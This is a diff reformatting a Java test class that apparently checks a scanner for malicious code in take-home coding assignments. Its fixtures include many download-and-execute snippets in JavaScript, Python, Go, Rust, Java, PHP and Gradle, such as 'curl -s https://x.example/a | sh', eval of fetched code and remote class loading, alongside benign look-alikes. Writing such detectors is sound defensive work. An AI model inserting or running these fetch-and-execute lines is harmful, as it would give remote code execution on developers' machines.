@@ -22,72 +22,34 @@ final class TakeHomeCodeTest {
     return lines(
         "a.js#const {data} = await axios.get(url);\neval(data.code);",
         "a.ts#const s = await fetch(u).then(r => r.text());\nnew Function('require', s)(require);",
-        "a.cjs#axios.get(u).catch(error => {\n"
-            + "  createHandler(Function.constructor('r', error.response.data));\n"
-            + "});",
-        "a.js#https.get(u, res => {\n"
-            + " let b = '';\n"
-            + " res.on('data', chunk => b += chunk);\n"
-            + " res.on('end', () => vm.runInNewContext(b, {require}));\n"
-            + "});",
+        "a.cjs#axios.get(u).catch(error => {\n  createHandler(Function.constructor('r', error.response.data));\n});",
+        "a.js#https.get(u, res => {\n let b = '';\n res.on('data', chunk => b += chunk);\n res.on('end', () => vm.runInNewContext(b, {require}));\n});",
         "a.py#payload = urllib.request.urlopen(u).read()\nexec(payload)",
-        "a.py#code = requests.get(u).json()\n"
-            + "import subprocess\n"
-            + "subprocess.run(code['run'], shell=True)",
+        "a.py#code = requests.get(u).json()\nimport subprocess\nsubprocess.run(code['run'], shell=True)",
         "a.py#urllib.request.urlretrieve(u, '/tmp/.x')\nos.system('chmod +x /tmp/.x && /tmp/.x')",
-        "main.rs#let bytes = reqwest::blocking::get(url)?.bytes()?;\n"
-            + "std::fs::write(target, &bytes)?;\n"
-            + "Command::new(target).spawn()?;",
-        "main.go#resp, err := http.Get(url)\n"
-            + "body, _ := io.ReadAll(resp.Body)\n"
-            + "os.WriteFile(path, body, 0755)\n"
-            + "exec.Command(path).Start()",
-        "main.go#resp, _ := http.Get(url)\n"
-            + "script, _ := io.ReadAll(resp.Body)\n"
-            + "exec.Command(\"sh\", \"-c\", string(script)).Run()",
-        "App.java#URL u = new URL(\"https://x.example/a.jar\");\n"
-            + "Class<?> c = new URLClassLoader(new URL[]{u}).loadClass(\"A\");",
-        "App.java#byte[] b = new URL(\"https://x.example/c\").openStream().readAllBytes();\n"
-            + "Class<?> c = defineClass(null, b, 0, b.length);",
+        "main.rs#let bytes = reqwest::blocking::get(url)?.bytes()?;\nstd::fs::write(target, &bytes)?;\nCommand::new(target).spawn()?;",
+        "main.go#resp, err := http.Get(url)\nbody, _ := io.ReadAll(resp.Body)\nos.WriteFile(path, body, 0755)\nexec.Command(path).Start()",
+        "main.go#resp, _ := http.Get(url)\nscript, _ := io.ReadAll(resp.Body)\nexec.Command(\"sh\", \"-c\", string(script)).Run()",
+        "App.java#URL u = new URL(\"https://x.example/a.jar\");\nClass<?> c = new URLClassLoader(new URL[]{u}).loadClass(\"A\");",
+        "App.java#byte[] b = new URL(\"https://x.example/c\").openStream().readAllBytes();\nClass<?> c = defineClass(null, b, 0, b.length);",
         "a.py#code = requests.get(u).text\nos.system(f\"python3 -c '{code}'\")",
-        "a.py#import requests\n"
-            + "s = requests.Session()\n"
-            + "def load():\n"
-            + "    r = s.get(u)\n"
-            + "    return r.text\n"
-            + "exec(load())",
+        "a.py#import requests\ns = requests.Session()\ndef load():\n    r = s.get(u)\n    return r.text\nexec(load())",
         "a.rb#require 'net/http'\ncode = Net::HTTP.get(URI('https://x.example/a'))\neval(code)",
         "a.php#<?php $c = file_get_contents('https://x.example/a'); eval($c);",
-        "a.js#const e = eval; let out;\n"
-            + "axios.get(u).then(({ data }) => { out = data; }).finally(() => e(out));",
+        "a.js#const e = eval; let out;\naxios.get(u).then(({ data }) => { out = data; }).finally(() => e(out));",
         "a.js#const r = await fetch(u); const t = await r.text(); Reflect.apply(eval, null, [t]);",
-        "a.js#const { execSync } = require('child_process');\n"
-            + "execSync('curl -s https://x.example/a | sh');",
+        "a.js#const { execSync } = require('child_process');\nexecSync('curl -s https://x.example/a | sh');",
         "hardhat.config.js#const c = await got(u).text();\nconst t = eval(c);",
-        "main.go#package main\n\n"
-            + "import \"net/http\"\n\n"
-            + "func init() {\n"
-            + "resp, err := http.Get(url)\n"
-            + "if err != nil {\n"
-            + "\treturn\n"
-            + "}\n"
-            + "body, _ := io.ReadAll(resp.Body)\n"
-            + "_ = exec.Command(\"/bin/sh\", \"-c\", string(body)).Start()\n"
-            + "}",
-        "plugin.cjs#module.exports = {factory: (require) => {\n"
-            + "const cp = require('child_process');\n"
-            + "cp.execSync('curl -s https://x.example/a | sh');\n"
-            + "}};",
+        "main.go#package main\n\nimport \"net/http\"\n\nfunc init() {\nresp, err := http.Get(url)\nif err != nil {\n\treturn\n}\nbody, _ := io.ReadAll(resp.Body)\n_ = exec.Command(\"/bin/sh\", \"-c\", string(body)).Start()\n}",
+        "plugin.cjs#module.exports = {factory: (require) => {\nconst cp = require('child_process');\ncp.execSync('curl -s https://x.example/a | sh');\n}};",
         "build.gradle.kts#apply(from = \"https://x.example/a.gradle\")",
         "build.gradle#apply from: 'https://x.example/a.gradle'",
         "a.php#<?php include 'https://x.example/a.txt';",
         "a.php#<?php $base = 'https://x.example/';\ninclude $base . 'a.txt';",
         "a.js#const c = ['curl', '-s', 'https://x.example/a', '|', 'sh'].join(' ');\nexecSync(c);",
-        "a.py#urllib.request.urlretrieve(u, '/tmp/h.py')\n"
-            + "s = importlib.util.spec_from_file_location('h', '/tmp/h.py')",
+        "a.py#urllib.request.urlretrieve(u, '/tmp/h.py')\ns = importlib.util.spec_from_file_location('h', '/tmp/h.py')",
         "a.py#import os\nos.system(' '.join(['curl', 'https://x.example/a', '|', 'sh']))",
-        "build.gradle.kts#exec { commandLine(\"sh\", \"-c\", \"curl -s https://x.example/a | sh\")"
-            + " }",
+        "build.gradle.kts#exec { commandLine(\"sh\", \"-c\", \"curl -s https://x.example/a | sh\") }",
         "build.gradle#exec {\n  commandLine 'sh', '-c', 'curl -s https://x.example/a | sh'\n}");
   }
 
@@ -101,24 +63,16 @@ final class TakeHomeCodeTest {
         "a.py#data = ast.literal_eval(text)\ncompiled = re.compile(pattern)",
         "main.go#resp, err := http.Get(url)\nout := exec.Command(\"git\", \"rev-parse\", \"HEAD\")",
         "main.rs#let body = reqwest::get(url).await?.text().await?;\nprintln!(\"{body}\");",
-        "App.java#HttpRequest r = HttpRequest.newBuilder(uri).build();\n"
-            + "String s = client.send(r, ofString()).body();",
+        "App.java#HttpRequest r = HttpRequest.newBuilder(uri).build();\nString s = client.send(r, ofString()).body();",
         "a.py#r = requests.get(u)\nos.system(f\"git clone {r.json()['url']}\")",
         "a.js#const { data } = await axios.get(u);\nexecSync(`git checkout ${data.branch}`);",
         "a.js#const r = await fetch('/api/code'); eval(await r.text());",
         "notes.md#fetch(u).then(r => r.text()).then(t => eval(t))",
         "a.js#// never eval(response.data) of fetch(u)\nconst a = 1;",
-        "main.go#out, err := exec.Command(\"git\", \"tag\").Output()\n"
-            + "resp, err := http.Get(url)\n"
-            + "if err != nil {\n"
-            + "\tpanic(err)\n"
-            + "}",
-        "a.py#urllib.request.urlretrieve(u, '/tmp/h.csv')\n"
-            + "s = importlib.util.spec_from_file_location('h', 'h.py')",
-        "build.gradle#apply from: 'gradle/quality.gradle'\n"
-            + "exec { commandLine 'git', 'rev-parse', 'HEAD' }",
-        "a.php#<?php include 'templates/page.php'; $r = file_get_contents('https://x.example/a');"
-            + " echo $r;",
+        "main.go#out, err := exec.Command(\"git\", \"tag\").Output()\nresp, err := http.Get(url)\nif err != nil {\n\tpanic(err)\n}",
+        "a.py#urllib.request.urlretrieve(u, '/tmp/h.csv')\ns = importlib.util.spec_from_file_location('h', 'h.py')",
+        "build.gradle#apply from: 'gradle/quality.gradle'\nexec { commandLine 'git', 'rev-parse', 'HEAD' }",
+        "a.php#<?php include 'templates/page.php'; $r = file_get_contents('https://x.example/a'); echo $r;",
         "Vault.sol#function execute(bytes calldata data) external { target.call(data); }");
   }
 
@@ -137,26 +91,19 @@ final class TakeHomeCodeTest {
 
   static Stream<Arguments> plain() {
     return lines(
-        "a.py#where = subprocess.check_output(['which', 'a']).decode()\n"
-            + "root = os.path.join(os.environ['HOME'], where)",
+        "a.py#where = subprocess.check_output(['which', 'a']).decode()\nroot = os.path.join(os.environ['HOME'], where)",
         "a.py#env = os.environ.copy()\np = subprocess.Popen(cmd, env=env, stdout=subprocess.PIPE)",
-        "a.py#cmd = [os.path.join(os.environ.get('WINDIR', ''), 'reg.exe')]\n"
-            + "subprocess.Popen(cmd, stderr=subprocess.STDOUT)",
+        "a.py#cmd = [os.path.join(os.environ.get('WINDIR', ''), 'reg.exe')]\nsubprocess.Popen(cmd, stderr=subprocess.STDOUT)",
         "a.js#const token = atob(parts[1]);\nconst user = JSON.parse(token);",
         "vendor/q.min.js#" + "!function(e,t){return e(t)}(this,function(n){return n});".repeat(30),
         "a.py#data = base64.b64decode(encoded)\nimage = Image.open(io.BytesIO(data))",
-        "setup.py#with open('version.py') as f:\n"
-            + "    exec(f.read(), about)\n"
-            + "with open('README.md') as f:\n"
-            + "    text = f.read()",
+        "setup.py#with open('version.py') as f:\n    exec(f.read(), about)\nwith open('README.md') as f:\n    text = f.read()",
         "data.csv#1" + " ".repeat(300) + "total (net)",
         "a.js#const a = 1;" + " ".repeat(40) + "// aligned (far)",
-        "package-lock.json#\"_0x1a2b\" \"_0x2b3c\" \"_0x3c4d\" \"_0x4d5e\" \"_0x5e6f\" \"_0x6f7a\""
-            + " \"_0x7a8b\" \"_0x8b9c\"",
+        "package-lock.json#\"_0x1a2b\" \"_0x2b3c\" \"_0x3c4d\" \"_0x4d5e\" \"_0x5e6f\" \"_0x6f7a\" \"_0x7a8b\" \"_0x8b9c\"",
         "README.md#eval(atob('x')) is what we look for in the review",
         "ar.po#msgstr \"\u200f\u202bمرحبا\u202c\"",
-        "a.sol#bytes32 constant H ="
-            + " 0x1234567890abcdef1234567890abcdef1234567890abcdef1234567890abcdef;",
+        "a.sol#bytes32 constant H = 0x1234567890abcdef1234567890abcdef1234567890abcdef1234567890abcdef;",
         "a.tsx#const heart = '❤\uFE0F ❤\uFE0F ❤\uFE0F';");
   }
 
@@ -178,14 +125,11 @@ final class TakeHomeCodeTest {
         ".npmrc#registry=https://registry.npmjs.org/\n@acme:registry=https://npm.acme.example/",
         ".npmrc#registry=http://localhost:4873/",
         ".npmrc#registry=http://10.2.0.8:8081/repository/npm/",
-        "package.json#{\"homepage\": \"http://orders.example\", \"dependencies\": {\"a\":"
-            + " \"^1.0.0\"}}",
+        "package.json#{\"homepage\": \"http://orders.example\", \"dependencies\": {\"a\": \"^1.0.0\"}}",
         "package.json#{\"dependencies\": {\"a\": \"github:acme/a#4f1c09e\"}}",
         "requirements.txt#git+https://github.com/acme/helper@v1.0",
-        "Cargo.toml#[dependencies]\n"
-            + "helper = { git = \"https://github.com/acme/helper\", rev = \"4f1c09e\" }",
-        "pom.xml#<project xmlns=\"http://maven.apache.org/POM/4.0.0\">\n"
-            + "<url>http://maven.apache.org</url>",
+        "Cargo.toml#[dependencies]\nhelper = { git = \"https://github.com/acme/helper\", rev = \"4f1c09e\" }",
+        "pom.xml#<project xmlns=\"http://maven.apache.org/POM/4.0.0\">\n<url>http://maven.apache.org</url>",
         "build.gradle#maven { url 'https://plugins.gradle.org/m2/' }",
         ".gitmodules#url = https://github.com/foundry-rs/forge-std");
   }
